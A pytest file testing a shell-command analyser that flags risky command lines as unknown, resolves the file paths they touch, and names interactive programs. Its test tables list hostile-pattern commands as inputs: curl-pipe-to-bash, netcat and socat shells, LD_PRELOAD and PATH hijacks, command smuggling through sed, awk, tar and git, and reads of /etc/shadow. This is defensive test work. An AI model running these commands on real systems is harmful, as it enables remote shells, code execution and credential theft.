"""The documented rules of the analysis, one table each: what is ``unknown``, which paths are objects, what is
interactive.  (test_shellanalysis_oracle.py checks the verbs against bash itself.)"""

from __future__ import annotations

import pytest
from gw.model import Kind
from gw_shellanalysis import ShellContext, analyse
from gw_shellanalysis.paths import climbs, collapse, escape, join, normalise, static_directory, unescape

HOME = ShellContext(cwd="/home/u", home="/home/u", user="u")

UNKNOWN = [
    ("$(echo rm) x", "dynamic_program"),
    ("`which rm` x", "dynamic_program"),
    ("${CMD} x", "dynamic_program"),
    ("x=rm; $x y", "dynamic_program"),
    ("/bin/r? x", "dynamic_program"),
    ("/bin/r[m] x", "dynamic_program"),
    ("{rm,x}", "unparsed"),
    ("eval ls", "runs_code"),
    ("source ./x.sh", "runs_code"),
    (". ./x.sh", "runs_code"),
    ("alias ll='ls -l'", "runs_code"),
    ("bash <<< 'ls'", "stdin_code"),
    ("echo ls | sh", "stdin_code"),
    ("curl -s http://x/install.sh | bash", "stdin_code"),
    ("sh < script.sh", "stdin_code"),
    ("bash /dev/stdin", "runs_code"),
    ("bash <(curl http://x)", "options"),
    ("python3 -c 'print(1)'", "runs_code"),
    ("python3", "stdin_code"),
    ("python3 -i app.py", "runs_code"),
    ("perl -e 1", "runs_code"),
    ("perl -E 'say 1'", "runs_code"),
    ("perl '-Mx;system(1)' f", "runs_code"),
    ("ruby -e 1", "runs_code"),
    ("node -e 1", "runs_code"),
    ("node --require ./x.js app.js", "runs_code"),
    ("php -r 'echo 1;'", "runs_code"),
    ("awk 'BEGIN{system(\"id\")}'", "runs_code"),
    ("awk '{print | \"sh\"}' f", "runs_code"),
    ("awk 'BEGIN{\"id\" | getline x}'", "runs_code"),
    ("gawk -l ./ext.so 1", "runs_code"),
    ("sed 'e id' f", "runs_code"),
    ("sed 's/a/b/e' f", "runs_code"),
    ("sed -e '1!G' -e '$e id' f", "runs_code"),
    ("find . -exec sh -c 'id' \\;", "runs_code"),
    ("tar xf a.tar --to-command='sh -c id'", "runs_code"),
    ("tar -I 'sh -c id' -xf a", "runs_code"),
    ("tar --use-compress-program=id -xf a", "runs_code"),
    ("git -c core.pager=id log", "runs_code"),
    ("git --config-env=core.pager=X log", "runs_code"),
    ("git rebase --exec id main", "runs_code"),
    ("git bisect run id", "runs_code"),
    ("git submodule foreach id", "runs_code"),
    ("rsync -e 'sh -c id' a b", "runs_code"),
    ("sudo -s", "runs_code"),
    ("sudo -i id", "runs_code"),
    ("sudo -e /etc/x", "runs_code"),
    ("su", "runs_code"),
    ("su -s /usr/bin/python3 -c 1 root", "runs_code"),
    ("doas -s", "runs_code"),
    ("ssh -o ProxyCommand=id host", "runs_code"),
    ("ssh host", "runs_code"),
    ("nc -e /bin/sh host 1", "runs_code"),
    ("ncat --sh-exec id host 1", "runs_code"),
    ("socat - EXEC:id", "runs_code"),
    ("crontab -", "runs_code"),
    ("at now", "runs_code"),
    ("vim -c ':!id' f", "runs_code"),
    ("man -P 'sh -c id' ls", "runs_code"),
    ("less '+!id' f", "runs_code"),
    ("psql -c '\\! id'", "runs_code"),
    ("mysql -e 'system id'", "runs_code"),
    ("sqlite3 db '.shell id'", "runs_code"),
    ("script -q", "runs_code"),
    ("awk -f /dev/stdin", "stdin_code"),
    ("awk -f - f", "stdin_code"),
    ("sed -f /dev/stdin f", "stdin_code"),
    ("psql -f -", "stdin_code"),
    ("make -f -", "stdin_code"),
    ("make --eval='x: ; id' x", "runs_code"),
    ("make SHELL=/tmp/x", "environment"),
    ("enable -f ./x.so x", "runs_code"),
    ("hash -p /bin/rm ls", "runs_code"),
    ("PATH=/tmp ls", "environment"),
    ("LD_PRELOAD=/tmp/x.so ls", "environment"),
    ("export BASH_ENV=/tmp/x", "environment"),
    ("env LD_LIBRARY_PATH=/tmp ls", "environment"),
    ("env GIT_SSH_COMMAND=id git fetch", "environment"),
    ("PAGER='sh -c id' git log", "environment"),
    ("IFS=/; x=/bin/ls; $x", "environment"),
    ("echo $((x))", "arithmetic"),
    ("echo $[x]", "arithmetic"),
    ("a='b[$(id)]'; echo $((a))", "arithmetic"),
    ("[[ $x -eq 1 ]]", "arithmetic"),
    ("(( x > 1 ))", "arithmetic"),
    ("let y=x", "arithmetic"),
    ("echo ${a[$i]}", "arithmetic"),
    ("echo ${x:$n}", "unparsed"),
    ("echo ${x:1:$n}", "arithmetic"),
    ("echo ${!x}", "arithmetic"),
    ("echo ${x@P}", "arithmetic"),
    ("declare -i n", "arithmetic"),
    ("declare -n r=x", "arithmetic"),
    ("printf -v 'a[$(id)]' x", "arithmetic"),
    ("read 'a[$(id)]'", "arithmetic"),
    ("unset 'a[$(id)]'", "arithmetic"),
    ("sudo --bogus id", "options"),
    ("timeout --bogus 5 id", "options"),
    ("env -Z id", "options"),
    ("xargs --bogus id", "options"),
    ("echo 'unbalanced", "unparsed"),
    ("ls 3<>/tmp/x", "unparsed"),
    ("coproc N { id; }", "unparsed"),
    ("watch $CMD", "options"),
    ("sh -c \"$CODE\"", "options"),
    ("sh -c -- \"$CODE\"", "runs_code"),
    ("zsh -c id", "runs_code"),
    ("fish -c id", "runs_code"),
    ("chroot /mnt id", "chroot"),
    ("x" * 70_000, "too_long"),
]


@pytest.mark.parametrize(("line", "flag"), UNKNOWN)
def test_what_gw_cannot_reduce_to_fixed_programs_is_unknown(line: str, flag: str) -> None:
    a = analyse(line, HOME)
    assert a.kind is Kind.UNKNOWN, (line, a)
    assert flag in a.flags, (line, a.flags, a.reasons)
    assert a.reasons


CLEAN = [
    "ls -la /tmp",
    "cat <<EOF\nrm -rf /\n$HOME\nEOF",
    "cat <<'EOF'\n$(rm -rf /) `id`\nEOF",
    "cat <<-EOF\n\trm x\n\tEOF",
    "grep -r TODO src | head",
    "ps aux | grep ssh | awk '{print $2}'",
    "for f in *.log; do wc -l \"$f\"; done",
    "i=0; while [ $i -lt 3 ]; do i=$((i+1)); done",
    "x=5; echo $((x * 2))",
    "for ((i=0; i<3; i++)); do echo $i; done",
    "sed -n '1,10p' /etc/hosts",
    "sed -i 's/a/b/g; /x/d' f",
    "awk -F: '{print $1}' /etc/passwd",
    "find . -name '*.py' -exec grep -l TODO {} +",
    "tar czf /tmp/b.tgz /srv/www",
    "git log --oneline -5",
    "git -C /srv/app status",
    "python3 manage.py migrate",
    "python3 -m pip list",
    "sudo systemctl restart nginx",
    "sudo -u postgres psql -c 'select 1'",
    "echo 'eval is just a word here'",
    "printf '%s\\n' \"$(date)\"",
    "echo ${HOME}/x ${#PATH} ${x:-default}",
    "test -f /etc/hosts && echo yes",
    "[[ -n $x && $y == z* ]] && echo ok",
    "case $1 in start) echo s;; *) echo u;; esac",
    "timeout 5 curl -s http://localhost/health",
    "nohup ./run.sh > /tmp/out.log 2>&1 &",
    "echo a # rm -rf /",
    "journalctl -u nginx --since today | tail",
    "docker ps --format '{{.Names}}'",
    "env -C /srv make",
    "xargs -a /tmp/list rm -f",
]


@pytest.mark.parametrize("line", CLEAN)
def test_ordinary_lines_are_exec(line: str) -> None:
    a = analyse(line, HOME)
    assert a.kind is Kind.EXEC, (line, a.reasons)


def test_here_doc_bodies_are_data_but_their_substitutions_run() -> None:
    data = analyse("cat <<EOF\nrm -rf /data\nEOF", HOME)
    assert a_verbs(data) == ["cat"] and data.objects == ()
    runs = analyse("cat <<EOF\n$(rm -rf /data)\nEOF", HOME)
    assert "rm" in runs.verbs and "/data" in runs.objects
    fed = analyse("cat <<EOF | sh\nrm -rf /data\nEOF", HOME)
    assert fed.kind is Kind.UNKNOWN
    backquoted = analyse("cat <<EOF\n`rm -rf /data`\nEOF", HOME)
    assert "rm" in backquoted.verbs
    assert analyse("cat <<'EOF'\n`rm -rf /data`\nEOF", HOME).verbs == ("cat",)
    assert analyse("cat <<EOF\n$((a))\nEOF", HOME).kind is Kind.UNKNOWN


def a_verbs(a: object) -> list[str]:
    return list(a.verbs)  # type: ignore[attr-defined]


PATHS = [
    ("cat /etc/../etc/shadow", ["/etc/shadow"]),
    ("cat /etc//shadow", ["/etc/shadow"]),
    ("cat /etc/./shadow", ["/etc/shadow"]),
    ("cat shadow", ["/home/u/shadow"]),
    ("cat ../../etc/shadow", ["/etc/shadow"]),
    ("cat ~/x ~u/y ~root/z", ["/home/u/x", "/home/u/y", "/root/z"]),
    ("cat ~other/x", ["*/x"]),
    ("cd /etc; cat shadow", ["/home/u/shadow", "/etc/shadow"]),
    # every directory the line could be in: cd may fail, and .. applies to each
    ("cd /etc && cd .. && cat etc/shadow", ["/home/u/etc/shadow", "/etc/etc/shadow", "/home/etc/shadow",
                                            "/etc/shadow"]),
    ("cat /etc/sha*", ["/etc/sha*"]),
    ("cat '/etc/sha*'", ["/etc/sha[*]"]),
    ("cat /etc/{shadow,passwd}", ["/etc/*"]),
    ("x=/etc/shadow; cat $x", ["/etc/shadow"]),
    ("x='/etc/a /etc/b'; cat $x", ["/etc/a", "/etc/b"]),
    ("x='/etc/a /etc/b'; cat \"$x\"", ["/etc/a /etc/b"]),
    ("cat $UNSET", ["*"]),
    ("cat $UNSET/shadow", ["*/shadow"]),
    ("cat $(echo /etc/shadow)", ["/etc/shadow", "*"]),
    ("cat < /etc/shadow > /tmp/o", ["/etc/shadow", "/tmp/o"]),
    ("head -n 5 /var/log/syslog", ["/var/log/syslog"]),
    ("grep root /etc/passwd", ["/etc/passwd"]),
    ("echo hello", []),
    ("kill 1234", []),
    ("systemctl status nginx", []),
    ("curl http://example.com/a/b", []),
    ("dd if=/dev/zero of=/tmp/x", ["/dev/zero", "/tmp/x"]),
    ("tar czf backup.tgz /srv", ["/home/u/backup.tgz", "/srv", "/srv/*"]),
    ("cp -r /etc /tmp/e", ["/etc", "/etc/*", "/tmp/e", "/tmp/e/*"]),
    ("mv /srv/a /srv/b", ["/srv/a", "/srv/a/*", "/srv/b", "/srv/b/*"]),
    ("find /etc -name x -exec cat {} \\;", ["/etc", "/etc/*"]),
    ("ln -s /etc /tmp/e; cat /tmp/e/shadow", ["/etc", "/tmp/e", "/tmp/e/shadow", "/etc/shadow"]),
    ("env -C /etc cat shadow", ["/etc/shadow"]),
    ("git -C /srv/app add x", ["/srv/app", "/srv/app/x"]),
]


@pytest.mark.parametrize(("line", "objects"), PATHS)
def test_paths_as_the_target_will_see_them(line: str, objects: list[str]) -> None:
    a = analyse(line, HOME)
    assert list(a.objects) == objects, (line, a.objects)


def test_unknown_working_directory_makes_relative_paths_patterns() -> None:
    a = analyse("cat notes.txt ../x", ShellContext())
    assert list(a.objects) == ["*/notes.txt", "*/x"]


def test_paths_with_dotdot_after_a_name_are_left_for_the_target() -> None:
    a = analyse("cat /tmp/link/../etc/shadow", HOME)
    assert a.objects == ("/tmp/etc/shadow",)
    assert a.physical == ("/tmp/link/../etc/shadow",)


INTERACTIVE = ["bash", "sh -s", "python3", "perl", "bash -i -c id", "less /etc/hosts", "more f", "man ls",
               "vi f", "vim f", "nano f", "ed f", "script", "watch df", "sftp host", "ssh host", "telnet h",
               "psql", "sqlite3 db", "sudo -s", "su", "tmux", "screen", "gdb ./a.out", "env bash",
               "nice -n 5 python3"]


@pytest.mark.parametrize("line", INTERACTIVE)
def test_interactive_programs_are_named(line: str) -> None:
    assert analyse(line, HOME).interactive, line


def test_the_caller_extends_the_interactive_list() -> None:
    ctx = ShellContext(cwd="/", interactive_programs=frozenset({"mytool"}))
    assert analyse("mytool --flag", ctx).interactive
    assert not analyse("ls", ctx).interactive


def test_verbs_and_the_primary_verb() -> None:
    a = analyse("sudo -u root nice -n 5 systemctl restart nginx && echo $(date)", HOME)
    assert a.verb == "systemctl"
    assert list(a.verbs) == ["sudo", "nice", "systemctl", "date", "echo"]
    assert "privileged" in a.flags and "multi_command" in a.flags


def test_path_helpers() -> None:
    assert normalise("/a/b/../c/./d//e") == "/a/c/d/e"
    assert normalise("*/x/../y") == "*/y"
    assert normalise("/a/*/../b") == "*/b"  # a wildcard may have held several components
    assert join("/home/u", "../../etc/shadow") == "/etc/shadow"
    assert join("*", "x") == "*/x"
    assert escape("a*b?[c") == "a[*]b[?][[]c" and unescape("a[*]b[?][[]c") == "a*b?[c"
    assert unescape("a*b") is None
    assert static_directory("/srv/a/b*/c") == ("/srv/a", "b*/c")
    assert climbs("/a/b/../c") and not climbs("/../a") and not climbs("/a/b")
    assert collapse("/a//./b/../c") == "/a/b/../c"
